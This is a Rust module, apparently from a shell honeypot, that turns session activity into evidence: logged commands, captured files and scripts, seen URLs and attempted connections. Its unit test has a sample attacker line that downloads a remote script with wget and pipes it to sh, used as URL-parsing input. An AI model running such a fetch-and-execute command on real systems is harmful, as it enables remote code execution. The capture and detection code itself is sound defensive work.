//! What a shell session leaves for the record: lines, files written, scripts run, URLs, connections tried.

use std::collections::HashSet;
use std::sync::Arc;

use crate::event::{AnsweredBy, Kind, Raw};
use crate::session::Session;
use crate::shell::Note;
use crate::world::File;

/// Largest file of a shell that is captured.
const CAPTURE: u64 = 16 * 1024 * 1024;
/// Files that wait for their capture.
const WAITING: usize = 64;
/// Different URLs, connections and scripts of one session that are recorded.
const DIFFERENT: usize = 512;

/// Turns a session's notes into events and captures.
pub(super) struct Evidence {
    session: Arc<Session>,
    /// Files that were written and may be written again: captured when a line leaves them alone. The open file keeps
    /// its content, should it be removed.
    written: Vec<(Vec<u8>, File, bool)>,
    seen: HashSet<String>,
}

impl Evidence {
    pub fn new(session: Arc<Session>) -> Self {
        Self { session, written: Vec::new(), seen: HashSet::new() }
    }

    pub fn take(&mut self, notes: Vec<Note>, answered_by: AnsweredBy) {
        for note in notes {
            match note {
                Note::Line { line, output, bytes, status, took, asked } => {
                    self.urls(&line);
                    let by = if asked { answered_by } else { AnsweredBy::Emulator };
                    self.session.log().record(Kind::command(&line, &output, Some(status), by, took).of_length(bytes));
                    self.capture(false);
                }
                Note::Written { path, file } => self.wrote(path, file),
                Note::Script { path, text } => {
                    self.urls(&text);
                    let (sha256, stored) = self.keep(&text);
                    if self.is_new(format!("script {sha256}")) {
                        let bytes = text.len() as u64;
                        self.session.log().record(Kind::ScriptRun { path: Raw::from(&*path), bytes, sha256, stored });
                    }
                }
                Note::Url { url } => self.url(&url),
                Note::Connect { host, port } => {
                    if self.is_new(format!("connect {host}:{port}")) {
                        self.session.log().record(Kind::ConnectionTried { host: Raw::from(host.as_bytes()), port });
                    }
                }
            }
        }
    }

    /// The session has ended.
    pub fn finish(&mut self) {
        self.capture(true);
    }

    fn wrote(&mut self, path: Vec<u8>, file: File) {
        match self.written.iter_mut().find(|(known, _, _)| *known == path) {
            Some(entry) => *entry = (path, file, true),
            None => {
                if self.written.len() >= WAITING {
                    let (path, file, _) = self.written.remove(0);
                    self.capture_one(&path, &file);
                }
                self.written.push((path, file, true));
            }
        }
    }

    /// Captures what the last line did not write, or everything.
    fn capture(&mut self, all: bool) {
        let mut still = Vec::new();
        for (path, file, fresh) in std::mem::take(&mut self.written) {
            if fresh && !all {
                still.push((path, file, false));
            } else {
                self.capture_one(&path, &file);
            }
        }
        self.written = still;
    }

    fn capture_one(&mut self, path: &[u8], file: &File) {
        let size = file.stat().size;
        if size == 0 {
            return;
        }
        let mut capture = self.session.captures().begin(CAPTURE);
        let mut offset = 0;
        // A file may be far longer than all that was ever sent: holes are not read to their end.
        while offset < size.min(CAPTURE) {
            let piece = file.content_at(offset, 64 * 1024);
            if piece.is_empty() {
                break;
            }
            offset += piece.len() as u64;
            capture.push(&piece);
        }
        let stored = capture.store();
        if self.is_new(format!("file {} {}", stored.sha256, String::from_utf8_lossy(path))) {
            self.session.log().record(Kind::FileWritten {
                path: Raw::from(path),
                bytes: size,
                sha256: stored.sha256,
                stored: stored.name,
            });
        }
    }

    fn keep(&self, text: &[u8]) -> (String, Option<String>) {
        let mut capture = self.session.captures().begin(CAPTURE);
        capture.push(text);
        let stored = capture.store();
        (stored.sha256, stored.name)
    }

    fn urls(&mut self, text: &[u8]) {
        let text = String::from_utf8_lossy(text).into_owned();
        for url in find_urls(&text) {
            self.url(&url);
        }
    }

    fn url(&mut self, url: &str) {
        if self.is_new(format!("url {url}")) {
            self.session.log().record(Kind::UrlSeen { url: Raw::from(url.as_bytes()) });
        }
    }

    /// Whether this was not recorded yet in this session.
    fn is_new(&mut self, what: String) -> bool {
        self.seen.len() < DIFFERENT && self.seen.insert(what)
    }
}

/// URLs in a text, as they stand there.
fn find_urls(text: &str) -> Vec<String> {
    const SCHEMES: [&str; 5] = ["http://", "https://", "ftp://", "tftp://", "ftps://"];
    const LONGEST: usize = 2048;
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let begin = rest.get(..at).unwrap_or_default().rfind(|c: char| !c.is_ascii_alphabetic()).map_or(0, |at| at + 1);
        let candidate = rest.get(begin..).unwrap_or_default();
        let end = candidate.find(|c: char| c.is_whitespace() || c.is_control() || "\"'`<>|;)(\\{}".contains(c));
        let url = candidate.get(..end.unwrap_or(candidate.len())).unwrap_or_default();
        let known = SCHEMES.iter().any(|scheme| {
            url.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme)) && url.len() > scheme.len()
        });
        if known && url.len() <= LONGEST {
            found.push(url.trim_end_matches([',', '.', '&']).to_string());
        }
        rest = rest.get(at + 3..).unwrap_or_default();
    }
    found
}

#[cfg(test)]
mod tests {
    use super::find_urls;

    #[test]
    fn urls_of_loaders() {
        let line = "cd /tmp; wget http://192.0.2.1/a.sh -O- | sh; curl \"https://x.example/b?c=d\">f;tftp://h/x";
        assert_eq!(find_urls(line), ["http://192.0.2.1/a.sh", "https://x.example/b?c=d", "tftp://h/x"]);
        assert!(find_urls("a://b ://x http://").is_empty());
    }
}
